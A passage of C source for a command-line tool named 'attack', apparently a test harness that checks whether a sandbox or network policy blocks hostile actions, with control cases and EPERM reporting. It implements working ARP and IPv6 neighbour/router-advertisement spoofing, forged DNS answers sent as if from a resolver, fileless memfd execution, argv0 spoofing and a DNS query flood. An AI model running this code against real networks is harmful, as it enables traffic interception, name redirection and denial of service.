	n = packet_send(fd, ifindex, dstmac, ethertype_of(dst.ss_family), frame, hlen + len);
	if (n < 0)
		return fail("sendto");
	return ok("sent %zd bytes", n);
}

static int cmd_arp(int argc, char **argv)
{
	uint8_t dstmac[ETH_ALEN], mac[ETH_ALEN], claim_mac[ETH_ALEN], frame[ETH_ZLEN] = {0};
	struct ether_arp *arp = (struct ether_arp *)(frame + ETH_HLEN);
	struct in_addr claim_ip;
	int ifindex, fd;
	const char *step;
	ssize_t n;

	if (parse_mac(argv[2], dstmac) || inet_pton(AF_INET, argv[3], &claim_ip) != 1)
		return bad_usage("bad DSTMAC or CLAIM_IP");
	if (argc > 4 && parse_mac(argv[4], claim_mac))
		return bad_usage("bad CLAIM_MAC %s", argv[4]);
	if (iface_info(argv[1], &ifindex, mac))
		return fail("interface");
	if (argc <= 4)
		memcpy(claim_mac, mac, ETH_ALEN);
	build_eth(frame, dstmac, mac, ETHERTYPE_ARP);
	arp->arp_hrd = htons(ARPHRD_ETHER);
	arp->arp_pro = htons(ETHERTYPE_IP);
	arp->arp_hln = ETH_ALEN;
	arp->arp_pln = 4;
	arp->arp_op = htons(ARPOP_REPLY);
	memcpy(arp->arp_sha, claim_mac, ETH_ALEN);
	memcpy(arp->arp_spa, &claim_ip, 4);
	memcpy(arp->arp_tha, dstmac, ETH_ALEN);
	memcpy(arp->arp_tpa, &claim_ip, 4); /* gratuitous: target IP = sender IP */
	fd = packet_open(SOCK_RAW, ifindex, 0, &step);
	if (fd < 0)
		return fail(step);
	n = packet_send(fd, ifindex, dstmac, ETHERTYPE_ARP, frame, sizeof(frame));
	if (n < 0)
		return fail("sendto");
	return ok("sent %zd bytes", n);
}

/* --- subcommand: ndp ---------------------------------------------------------------------- */

/* IFACE's first link-local IPv6 address into a. Returns 0 or -1/errno. */
static int iface_ll6(const char *iface, struct in6_addr *a)
{
	char line[256];
	FILE *f = fopen("/proc/net/if_inet6", "re");
	int r = -1;

	if (!f)
		return -1;
	/* "fe80000000000000004200fffeac1102 1d 40 20 80 eth0": address, index, prefix, scope */
	while (r && fgets(line, sizeof(line), f)) {
		char hex[33], name[IF_NAMESIZE + 1];
		unsigned idx, plen, scope, flags;

		if (sscanf(line, "%32s %x %x %x %x %16s", hex, &idx, &plen, &scope, &flags, name) !=
			6 ||
		    strcmp(name, iface) || scope != 0x20)
			continue;
		for (int i = 0; i < 16; i++) {
			unsigned b;

			sscanf(hex + 2 * i, "%2x", &b);
			a->s6_addr[i] = (uint8_t)b;
		}
		r = 0;
	}
	fclose(f);
	if (r)
		errno = EADDRNOTAVAIL;
	return r;
}

/* A neighbour discovery message on a packet socket, from IFACE's link-local address with hop
 * limit 255, as a receiver accepts it: "na" (target TARGET, override, target link-layer
 * address LLMAC), "ns" (target TARGET, source link-layer address LLMAC) or "ra" (router
 * lifetime 1800 s, source link-layer address LLMAC). LLMAC "-" or absent: IFACE's MAC.
 * "ext" puts a destination options header in front of the ICMPv6 message. */
static int cmd_ndp(int argc, char **argv)
{
	uint8_t dstmac[ETH_ALEN], mac[ETH_ALEN], lmac[ETH_ALEN], frame[256] = {0};
	struct in6_addr dst, target = IN6ADDR_ANY_INIT, src;
	int ifindex, fd, ext = argc > 7, type;
	size_t at, icmp, len;
	const char *step;
	uint8_t pseudo[40] = {0};
	uint32_t sum;
	ssize_t n;

	if (parse_mac(argv[2], dstmac) || inet_pton(AF_INET6, argv[3], &dst) != 1)
		return bad_usage("bad DSTMAC or DSTIP");
	type = !strcmp(argv[4], "na")	? ND_NEIGHBOR_ADVERT
	       : !strcmp(argv[4], "ns") ? ND_NEIGHBOR_SOLICIT
	       : !strcmp(argv[4], "ra") ? ND_ROUTER_ADVERT
					: 0;
	if (!type)
		return bad_usage("KIND is na, ns or ra");
	if (type != ND_ROUTER_ADVERT && inet_pton(AF_INET6, argv[5], &target) != 1)
		return bad_usage("bad TARGET %s", argv[5]);
	if (ext && strcmp(argv[7], "ext"))
		return bad_usage("the last argument can only be \"ext\"");
	if (iface_info(argv[1], &ifindex, mac))
		return fail("interface");
	if (iface_ll6(argv[1], &src))
		return fail("link-local address");
	memcpy(lmac, mac, ETH_ALEN);
	if (argc > 6 && strcmp(argv[6], "-") && parse_mac(argv[6], lmac))
		return bad_usage("bad LLMAC %s", argv[6]);
	at = build_eth(frame, dstmac, mac, ETHERTYPE_IPV6);
	struct ip6_hdr *ip6 = (struct ip6_hdr *)(frame + at);
	ip6->ip6_flow = htonl(6U << 28);
	ip6->ip6_nxt = ext ? IPPROTO_DSTOPTS : IPPROTO_ICMPV6;
	ip6->ip6_hlim = 255;
	ip6->ip6_src = src;
	ip6->ip6_dst = dst;
	at += sizeof(*ip6);
	if (ext) {
		frame[at] = IPPROTO_ICMPV6; /* next header; length 0 (8 bytes); PadN of 4 */
		frame[at + 2] = 1;
		frame[at + 3] = 4;
		at += 8;
	}
	icmp = at;
	frame[at] = (uint8_t)type;
	if (type == ND_ROUTER_ADVERT) {
		frame[at + 4] = 64;	   /* current hop limit */
		frame[at + 6] = 1800 >> 8; /* router lifetime */
		frame[at + 7] = 1800 & 0xff;
		at += 16;
	} else {
		if (type == ND_NEIGHBOR_ADVERT)
			frame[at + 4] = 0x20; /* override */
		memcpy(frame + at + 8, &target, 16);
		at += 24;
	}
	frame[at] = type == ND_NEIGHBOR_ADVERT ? ND_OPT_TARGET_LINKADDR : ND_OPT_SOURCE_LINKADDR;
	frame[at + 1] = 1;
	memcpy(frame + at + 2, lmac, ETH_ALEN);
	at += 8;
	len = at - icmp;
	ip6->ip6_plen = htons((uint16_t)(at - ETH_HLEN - sizeof(*ip6)));
	memcpy(pseudo, &ip6->ip6_src, 32);
	pseudo[34] = (uint8_t)(len >> 8);
	pseudo[35] = (uint8_t)len;
	pseudo[39] = IPPROTO_ICMPV6;
	sum = csum_add(csum_add(0, pseudo, 40), frame + icmp, len);
	frame[icmp + 2] = (uint8_t)(csum_fold(sum) >> 8);
	frame[icmp + 3] = (uint8_t)csum_fold(sum);
	fd = packet_open(SOCK_RAW, ifindex, 0, &step);
	if (fd < 0)
		return fail(step);
	n = packet_send(fd, ifindex, dstmac, ETHERTYPE_IPV6, frame, at);
	if (n < 0)
		return fail("sendto");
	return ok("sent %zd bytes", n);
}

/* --- subcommand: dns-forge ---------------------------------------------------------------- */

enum forge_mode { FORGE_BIND, FORGE_TRANSPARENT, FORGE_RAW, FORGE_PACKET_LO, FORGE_HAIRPIN };

static const char *const forge_modes[] = {
    [FORGE_BIND] = "bind",	     [FORGE_TRANSPARENT] = "transparent", [FORGE_RAW] = "raw",
    [FORGE_PACKET_LO] = "packet-lo", [FORGE_HAIRPIN] = "hairpin",
};

/* How the forged answer leaves: mode, socket, and for packet modes the link layer. */
struct forger {
	enum forge_mode mode;
	int fd;
	int ifindex;
	uint8_t dstmac[ETH_ALEN], srcmac[ETH_ALEN];
};

/* Open the forger's socket for answers from resolver (RESOLVER:53), before any query goes
 * out. Returns 0, or -1 with errno and *step naming what failed. */
static int forger_open(struct forger *f, const struct sockaddr_storage *resolver, const char **step)
{
	static const uint8_t made_up_mac[ETH_ALEN] = {0x02, 0, 0, 0, 0, 0x01};
	int one = 1, v6 = resolver->ss_family == AF_INET6;

	switch (f->mode) {
	case FORGE_BIND:
	case FORGE_TRANSPARENT:
		*step = "forge socket";
		f->fd = socket(resolver->ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (f->fd < 0)
			return -1;
		if (f->mode == FORGE_TRANSPARENT) {
			*step = v6 ? "forge setsockopt IPV6_TRANSPARENT"
				   : "forge setsockopt IP_TRANSPARENT";
			if (setsockopt(f->fd, v6 ? SOL_IPV6 : SOL_IP,
				       v6 ? IPV6_TRANSPARENT : IP_TRANSPARENT, &one, sizeof(one)))
				return -1;
			*step = "forge setsockopt IP_FREEBIND";
			if (setsockopt(f->fd, v6 ? SOL_IPV6 : SOL_IP,
				       v6 ? IPV6_FREEBIND : IP_FREEBIND, &one, sizeof(one)))
				return -1;
		}
		*step = "forge bind";
		return bind(f->fd, (const struct sockaddr *)resolver, sockaddr_len(resolver));
	case FORGE_RAW:
		*step = "forge socket";
		f->fd = socket(resolver->ss_family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
		return f->fd < 0 ? -1 : 0;
	case FORGE_PACKET_LO:
		*step = "forge interface lo";
		if (iface_info("lo", &f->ifindex, NULL))
			return -1;
		memset(f->dstmac, 0, ETH_ALEN);
		memset(f->srcmac, 0, ETH_ALEN);
		f->fd = packet_open(SOCK_RAW, f->ifindex, 0, step);
		return f->fd < 0 ? -1 : 0;
	case FORGE_HAIRPIN:
		*step = "forge interface " HAIRPIN_IF;
		if (iface_info(HAIRPIN_IF, &f->ifindex, f->dstmac))
			return -1;
		memcpy(f->srcmac, made_up_mac, ETH_ALEN);
		f->fd = packet_open(SOCK_RAW, f->ifindex, 0, step);
		return f->fd < 0 ? -1 : 0;
	}
	errno = EINVAL;
	return -1;
}

/* Send the DNS message msg as if from resolver to victim. Returns 0 or -1 with errno. */
static int forger_send(struct forger *f, const struct sockaddr_storage *resolver,
		       const struct sockaddr_storage *victim, const uint8_t *msg, size_t len)
{
	uint16_t ethertype = ethertype_of(victim->ss_family);
	uint8_t frame[ETH_HLEN + MAX_PACKET];
	struct sockaddr_storage to = *victim;
	size_t hlen = 0, plen;
	ssize_t n;

	if (f->mode == FORGE_BIND || f->mode == FORGE_TRANSPARENT) {
		n = sendto(f->fd, msg, len, 0, (const struct sockaddr *)victim,
			   sockaddr_len(victim));
		return n < 0 ? -1 : 0;
	}
	if (f->mode != FORGE_RAW)
		hlen = build_eth(frame, f->dstmac, f->srcmac, ethertype);
	plen = build_udp_packet(frame + hlen, sizeof(frame) - hlen, resolver, victim, msg, len);
	if (!plen) {
		errno = EMSGSIZE;
		return -1;
	}
	if (f->mode == FORGE_RAW) {
		sockaddr_set_port(&to, 0); /* for AF_INET6 raw sockets the port is the protocol */
		n = sendto(f->fd, frame, plen, 0, (struct sockaddr *)&to, sockaddr_len(&to));
	} else {
		n = packet_send(f->fd, f->ifindex, f->dstmac, ethertype, frame, hlen + plen);
	}
	return n < 0 ? -1 : 0;
}

/* Does ss hold the same address and port as ref? */
static int sockaddr_equal(const struct sockaddr_storage *ss, const struct sockaddr_storage *ref)
{
	return ss->ss_family == ref->ss_family && sockaddr_port(ss) == sockaddr_port(ref) &&
	       !memcmp(sockaddr_ip(ss), sockaddr_ip(ref), ref->ss_family == AF_INET6 ? 16 : 4);
}

/* Read answers on fd until the forged one (id, carrying answer, from resolver) arrives or the
 * timeout passes, printing each on stderr; later answers are not waited for. Returns 1 when the
 * forged answer arrived, else 0. */
static int read_answers(int fd, uint16_t id, const struct sockaddr_storage *resolver,
			const struct sockaddr_storage *answer)
{
	long long deadline = now_ms() + timeout_ms;
	uint8_t buf[MAX_PACKET];
	struct dns_reply r;

	for (;;) {
		struct sockaddr_storage from = {0};
		socklen_t flen = sizeof(from);
		int w = wait_fd(fd, POLLIN, deadline);
		ssize_t n;

		if (w == 0) {
			fprintf(stderr, "attack: forged answer not received within the timeout\n");
			return 0;
		}
		if (w < 0) {
			fprintf(stderr, "attack: poll: %s\n", strerror(errno));
			return 0;
		}
		n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &flen);
		if (n < 0) {
			/* the query drew an ICMP error on a connected socket; the forged
			 * answer may still be queued */
			fprintf(stderr, "attack: recv: %s\n", strerror(errno));
			if (errno == ECONNREFUSED || errno == EHOSTUNREACH || errno == ENETUNREACH)
				continue;
			return 0;
		}
		dns_print_reply(buf, (size_t)n, &from, &r);
		if (r.id != id || !dns_reply_has(&r, answer))
			continue;
		if (sockaddr_equal(&from, resolver))
			return 1;
		/* e.g. conntrack remapped its source port: a resolver library drops it */
		fprintf(stderr, "attack: forged answer arrived, but not from the resolver\n");
	}
}

static int cmd_dns_forge(int argc, char **argv)
{
	struct sockaddr_storage resolver, answer, victim;
	int unconnected = argc > 6, s, mode = -1;
	uint8_t query[512], forged[512];
	uint16_t id = (uint16_t)random32();
	struct forger f = {.fd = -1};
	socklen_t vlen = sizeof(victim);
	size_t qlen, flen;
	const char *step = "forge";
	char who[INET6_ADDRSTRLEN + 8];

	for (size_t i = 0; i < sizeof(forge_modes) / sizeof(forge_modes[0]); i++)
		if (strcmp(argv[1], forge_modes[i]) == 0)
			mode = (int)i;
	if (mode < 0)
		return bad_usage("MODE is bind, transparent, raw, packet-lo or hairpin");
	f.mode = (enum forge_mode)mode;
	if (!parse_sockaddr(argv[2], "53", &resolver) || !parse_sockaddr(argv[4], argv[5], &answer))
		return bad_usage("bad RESOLVER, ANSWER_IP or PORT");
	if (unconnected && strcmp(argv[6], "unconnected") != 0)
		return bad_usage("the last argument can only be \"unconnected\"");
	qlen = dns_build_query(query, sizeof(query), id, argv[3],
			       answer.ss_family == AF_INET6 ? 28 : 1);
	flen = dns_build_answer(forged, sizeof(forged), id, argv[3], answer.ss_family,
				sockaddr_ip(&answer));
	if (!qlen || !flen)
		return bad_usage("bad NAME %s", argv[3]);

	/* a: the victim socket, as glibc (connected) or musl (bound, sendto) uses it */
	s = socket(resolver.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return fail("socket");
	if (unconnected) {
		struct sockaddr_storage any = {.ss_family = resolver.ss_family};

		if (bind(s, (struct sockaddr *)&any, sockaddr_len(&any)))
			return fail("bind");
	} else if (connect(s, (struct sockaddr *)&resolver, sockaddr_len(&resolver))) {
		return fail("connect resolver");
	}
	if (getsockname(s, (struct sockaddr *)&victim, &vlen))
		return fail("getsockname");
	if (sockaddr_is_any(&victim)) {
		unsigned short port = sockaddr_port(&victim);

		if (route_source(&resolver, &victim))
			return fail("route to resolver");
		sockaddr_set_port(&victim, port);
	}
	fprintf(stderr, "attack: victim socket %s, forging from %s by %s\n",
		sockaddr_str(&victim, who, sizeof(who)), argv[2], forge_modes[mode]);
	if (forger_open(&f, &resolver, &step))
		return fail(step);

	/* b: the query, c: the forged answer right behind it (-f: right before it, so that it
	 * waits in the socket's queue and the query's conntrack entry cannot be in its way) */
	if (forge_first && forger_send(&f, &resolver, &victim, forged, flen))
		return fail("forge send");
	if (!no_query) {
		ssize_t n = unconnected ? sendto(s, query, qlen, 0, (struct sockaddr *)&resolver,
						 sockaddr_len(&resolver))
					: send(s, query, qlen, 0);

		if (n < 0)
			return fail("query");
	}
	if (!forge_first && forger_send(&f, &resolver, &victim, forged, flen))
		return fail("forge send");

	/* d: what arrived; e: does the forged address now let us through? */
	if (read_answers(s, id, &resolver, &answer))
		fprintf(stderr, "attack: forged answer received\n");
	close(s);
	s = socket(answer.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		return fail("socket");
	if (connect_timeout(s, &answer))
		return fail("connect");
	return ok("connected");
}

/* --- subcommands: bind, exec, clone ------------------------------------------------------- */

/* bind and transparent-bind. */
static int cmd_bind(int argc, char **argv)
{
	int transparent = strcmp(argv[0], "transparent-bind") == 0, tcp = 0, one = 1, fd;
	struct sockaddr_storage ss;

	if (!parse_sockaddr(argv[1], argv[2], &ss))
		return bad_usage("bad ADDR or PORT");
	if (argc > 3) {
		if (strcmp(argv[3], "tcp") && strcmp(argv[3], "udp"))
			return bad_usage("the protocol is udp or tcp");
		tcp = strcmp(argv[3], "tcp") == 0;
	}
	fd = socket(ss.ss_family, (tcp ? SOCK_STREAM : SOCK_DGRAM) | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return fail("socket");
	if (transparent && setsockopt(fd, ss.ss_family == AF_INET6 ? SOL_IPV6 : SOL_IP,
				      ss.ss_family == AF_INET6 ? IPV6_TRANSPARENT : IP_TRANSPARENT,
				      &one, sizeof(one)))
		return fail("setsockopt IP_TRANSPARENT");
	if (bind(fd, (struct sockaddr *)&ss, sockaddr_len(&ss)))
		return fail("bind");
	return ok("bound");
}

static const char *base_name(const char *path)
{
	const char *slash = strrchr(path, '/');

	return slash ? slash + 1 : path;
}

static int cmd_exec_memfd(int argc, char **argv)
{
	const char *path = argv[1];
	char buf[65536], proc[64];
	int in, mfd;
	ssize_t n;

	in = open(path, O_RDONLY | O_CLOEXEC);
	if (in < 0)
		return fail("open");
	mfd = memfd_create(base_name(path), MFD_EXEC);
	if (mfd < 0 && errno == EINVAL) /* kernels before 6.3 know no MFD_EXEC */
		mfd = memfd_create(base_name(path), 0);
	if (mfd < 0)
		return fail("memfd_create");
	while ((n = read(in, buf, sizeof(buf))) > 0)
		for (ssize_t off = 0, w; off < n; off += w)
			if ((w = write(mfd, buf + off, (size_t)(n - off))) < 0)
				return fail("write");
	if (n < 0)
		return fail("read");
	close(in);
	argv[1] = (char *)(argv0_override ? argv0_override : base_name(path));
	if (exec_via_proc) {
		snprintf(proc, sizeof(proc), "/proc/self/fd/%d", mfd);
		execve(proc, argv + 1, environ);
		return fail("execve");
	}
	syscall(SYS_execveat, mfd, "", argv + 1, environ, AT_EMPTY_PATH);
	return fail("execveat");
}

static int cmd_exec_argv0(int argc, char **argv)
{
	const char *path = argv[2];

	argv[2] = argv[1]; /* argv[2..]: ARGV0 ARGS... */
	execve(path, argv + 2, environ);
	return fail("execve");
}

#define CLONE_STACK	 (256 * 1024)
#define CHILD_EXEC_EPERM 126
#define CHILD_EXEC_FAIL	 127

/* The clone-files child: run CMD, or sleep 1 s without one. Never returns. */
static int clone_child(void *arg)
{
	char **cmd = arg;

	if (!cmd[0]) {
		sleep(1);
		_exit(0);
	}
	execvp(cmd[0], cmd);
	fprintf(stderr, "attack: clone-files: exec %s: %s\n", cmd[0], strerror(errno));
	_exit(errno == EPERM ? CHILD_EXEC_EPERM : CHILD_EXEC_FAIL);
}

static int cmd_clone_files(int argc, char **argv)
{
	char *stack = malloc(CLONE_STACK);
	int status;
	pid_t pid;

	if (!stack)
		return fail("malloc");
	/* the file table shared, the memory not: not a thread, not a plain fork */
	pid = clone(clone_child, stack + CLONE_STACK, CLONE_FILES | SIGCHLD, argv + 1);
	if (pid < 0)
		return fail("clone");
	while (waitpid(pid, &status, 0) < 0)
		if (errno != EINTR)
			return fail("waitpid");
	free(stack);
	if (WIFSIGNALED(status)) {
		printf("error child: killed by signal %d\n", WTERMSIG(status));
		return 1;
	}
	if (WEXITSTATUS(status) == CHILD_EXEC_EPERM) {
		printf("EPERM\n");
		return 1;
	}
	if (WEXITSTATUS(status)) {
		printf("error child: exit status %d\n", WEXITSTATUS(status));
		return 1;
	}
	return ok("shared");
}

/* --- subcommands: DNS flood and the control cases ----------------------------------------- */

/* Count the DNS responses from the resolver waiting on fd, without blocking. */
static long drain_answers(int fd, const struct sockaddr_storage *resolver)
{
	uint8_t buf[MAX_PACKET];
	struct dns_reply r;
	long answered = 0;

	for (;;) {
		struct sockaddr_storage from = {0};
		socklen_t flen = sizeof(from);
		ssize_t n =
		    recvfrom(fd, buf, sizeof(buf), MSG_DONTWAIT, (struct sockaddr *)&from, &flen);

		if (n < 0)
			return answered;
		if (sockaddr_port(&from) == DNS_PORT &&
		    !memcmp(sockaddr_ip(&from), sockaddr_ip(resolver),
			    resolver->ss_family == AF_INET6 ? 16 : 4) &&
		    !dns_parse_reply(buf, (size_t)n, &r))
			answered++;
	}
}

static int cmd_flood_dns(int argc, char **argv)
{
	struct timeval tv = {.tv_sec = timeout_ms / 1000, .tv_usec = timeout_ms % 1000 * 1000};
	struct sockaddr_storage resolver;
	uint32_t prefix = random32();
	long count, answered = 0;
	long long deadline;
	uint8_t q[512];
	char *end;
	int fd;

	errno = 0;
	count = strtol(argv[2], &end, 10);
	if (!parse_sockaddr(argv[1], "53", &resolver) || errno || *end || end == argv[2] ||
	    count < 1 || count > 10000000)
		return bad_usage("bad RESOLVER or COUNT");
	fd = socket(resolver.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return fail("socket");
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	for (long i = 0; i < count; i++) {
		char name[300];
		size_t qlen;

		snprintf(name, sizeof(name), "%08x-%ld.%s", prefix, i, argv[3]);
		qlen = dns_build_query(q, sizeof(q), (uint16_t)(prefix + i), name, 1);
		if (!qlen)
			return bad_usage("bad SUFFIX %s", argv[3]);
		if (sendto(fd, q, qlen, 0, (struct sockaddr *)&resolver, sockaddr_len(&resolver)) <
		    0) {
			fprintf(stderr, "attack: sent %ld of %ld, answered %ld\n", i, count,
				answered);
			if (errno == EAGAIN)
				errno = ETIMEDOUT;
			return fail("sendto");
		}
		answered += drain_answers(fd, &resolver);
	}
	deadline = now_ms() + timeout_ms;
	while (answered < count && wait_fd(fd, POLLIN, deadline) > 0)
		answered += drain_answers(fd, &resolver);
	return ok("sent %ld answered %ld", count, answered);
}

static int cmd_connect(int argc, char **argv)
{
	struct sockaddr_storage dst;
	int fd;

	if (!parse_sockaddr(argv[1], argv[2], &dst))
		return bad_usage("bad ADDR or PORT");
	fd = socket(dst.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return fail("socket");
	if (connect_timeout(fd, &dst))
		return fail("connect");
	return ok("connected");
}

static int cmd_udp_send(int argc, char **argv)
{
	int plen = payload_len(argv[3]), fd;
	struct sockaddr_storage dst;
	ssize_t n;

	if (!parse_sockaddr(argv[1], argv[2], &dst) || plen < 0)
		return bad_usage("bad ADDR, PORT or PAYLOAD");
	fd = socket(dst.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return fail("socket");
	n = sendto(fd, argv[3], (size_t)plen, 0, (struct sockaddr *)&dst, sockaddr_len(&dst));
	if (n < 0)
		return fail("sendto");
	return ok("sent %zd bytes", n);
}

/* --- the table ---------------------------------------------------------------------------- */

static const struct command commands[] = {
    {"raw-udp", "SRC|auto DST DPORT PAYLOAD", 4, 4, cmd_raw_udp,
     "UDP datagram with a hand-built IP header (SOCK_RAW IPPROTO_RAW; CAP_NET_RAW)"},
    {"raw-icmp", "DST", 1, 1, cmd_raw_icmp,
     "ICMP echo on a raw socket (CAP_NET_RAW); \"ok reply\", or \"ok sent\" without one"},
    {"ping", "DST", 1, 1, cmd_ping, "ICMP echo on a ping socket (SOCK_DGRAM IPPROTO_ICMP)"},
    {"ping6", "DST", 1, 1, cmd_ping, "ICMPv6 echo on a ping socket (IPPROTO_ICMPV6)"},
    {"udplite", "DST PORT PAYLOAD [connect]", 3, 4, cmd_udplite,
     "UDP-Lite datagram, sendto() or connect() + send()"},
    {"sctp", "DST PORT [PAYLOAD]", 2, 3, cmd_stream, "SCTP stream socket: connect, send"},
    {"mptcp", "DST PORT [PAYLOAD]", 2, 3, cmd_stream, "MPTCP socket: connect, send"},
    {"packet", "IFACE DSTMAC SRCIP|auto DSTIP DPORT PAYLOAD [bypass]", 6, 7, cmd_packet,
     "Ethernet+IP+UDP frame on an AF_PACKET SOCK_RAW socket (CAP_NET_RAW)"},
    {"packet-dgram", "IFACE DSTMAC SRCIP|auto DSTIP DPORT PAYLOAD [bypass]", 6, 7, cmd_packet,
     "IP+UDP on an AF_PACKET SOCK_DGRAM socket, the kernel writes the link header"},
    {"arp", "IFACE DSTMAC CLAIM_IP [CLAIM_MAC]", 3, 4, cmd_arp,
     "gratuitous ARP reply to DSTMAC: CLAIM_IP is at CLAIM_MAC (default IFACE's MAC)"},
    {"ndp", "IFACE DSTMAC DSTIP na|ns|ra TARGET|- [LLMAC|-] [ext]", 5, 7, cmd_ndp,
     "IPv6 neighbour discovery from IFACE's link-local address: na claims TARGET at LLMAC "
     "(default IFACE's MAC), ns asks for TARGET, ra announces a router; ext: behind a "
     "destination options header"},
    {"dns-forge", "MODE RESOLVER NAME ANSWER_IP PORT [unconnected]", 5, 6, cmd_dns_forge,
     "query RESOLVER, forge its answer NAME -> ANSWER_IP (MODE: bind, transparent, raw, "
     "packet-lo, hairpin), then TCP connect to ANSWER_IP:PORT; -n: no query; -f: forge first"},
    {"bind", "ADDR PORT [udp|tcp]", 2, 3, cmd_bind, "bind a socket (default udp)"},
    {"transparent-bind", "ADDR PORT [udp|tcp]", 2, 3, cmd_bind,
     "IP_TRANSPARENT, then bind (CAP_NET_RAW or CAP_NET_ADMIN)"},
    {"exec-memfd", "PATH [ARGS...]", 1, -1, cmd_exec_memfd,
     "copy PATH into a memfd and execveat it (-p: execve /proc/self/fd/N; -a ARGV0)"},
    {"exec-argv0", "ARGV0 PATH [ARGS...]", 2, -1, cmd_exec_argv0, "execve PATH with argv[0] ARGV0"},
    {"clone-files", "[CMD ARGS...]", 0, -1, cmd_clone_files,
     "clone(CLONE_FILES) child without CLONE_VM that runs CMD (default: sleeps 1 s)"},
    {"flood-dns", "RESOLVER COUNT SUFFIX", 3, 3, cmd_flood_dns,
     "COUNT queries for unique names RANDOM-I.SUFFIX, back to back on one socket"},
    {"connect", "ADDR PORT", 2, 2, cmd_connect, "plain TCP connect (the control case)"},
    {"udp-send", "ADDR PORT PAYLOAD", 3, 3, cmd_udp_send, "plain UDP sendto (the control case)"},
};

static void usage(FILE *out)
{
	fprintf(out, "usage: attack [-t SECONDS] [-n] [-f] [-p] [-a ARGV0] SUBCOMMAND ARGS...\n"
		     "  -t SECONDS  timeout of every network wait (default 2)\n"
		     "  -n          dns-forge: send no query, only the forged answer\n"
		     "  -f          dns-forge: forge the answer before sending the query\n"
		     "  -p          exec-memfd: execve(\"/proc/self/fd/N\") instead of execveat\n"
		     "  -a ARGV0    exec-memfd: argv[0] (default: the base name of PATH)\n"
		     "Prints one line: \"ok ...\" (exit 0), \"EPERM\", \"error STEP: ...\" or "
		     "\"timeout\" (exit 1); usage errors exit 2.\n"
		     "Subcommands:\n");
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		fprintf(out, "  %s %s\n      %s\n", commands[i].name, commands[i].args,
			commands[i].help);
}

int main(int argc, char **argv)
{
	char *end;
	double t;
	int opt;

	while ((opt = getopt(argc, argv, "+t:nfpa:h")) != -1) {
		switch (opt) {
		case 't':
			t = strtod(optarg, &end);
			if (end == optarg || *end || !(t >= 0 && t <= 3600))
				return bad_usage("-t takes seconds, 0 to 3600");
			timeout_ms = (int)(t * 1000);
			break;
		case 'n': no_query = 1; break;
		case 'f': forge_first = 1; break;
		case 'p': exec_via_proc = 1; break;
		case 'a': argv0_override = optarg; break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return bad_usage("unknown option");
		}
	}
	if (optind >= argc) {
		usage(stderr);
		return bad_usage("no subcommand");
	}
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
		const struct command *c = &commands[i];
		int nargs = argc - optind - 1;

		if (strcmp(argv[optind], c->name) != 0)
			continue;
		current = c;
		if (nargs < c->min_args || (c->max_args >= 0 && nargs > c->max_args))
			return bad_usage("%s takes %s", c->name, c->args);
		return c->run(nargs + 1, argv + optind);
	}
	usage(stderr);
	return bad_usage("unknown subcommand %s", argv[optind]);
}
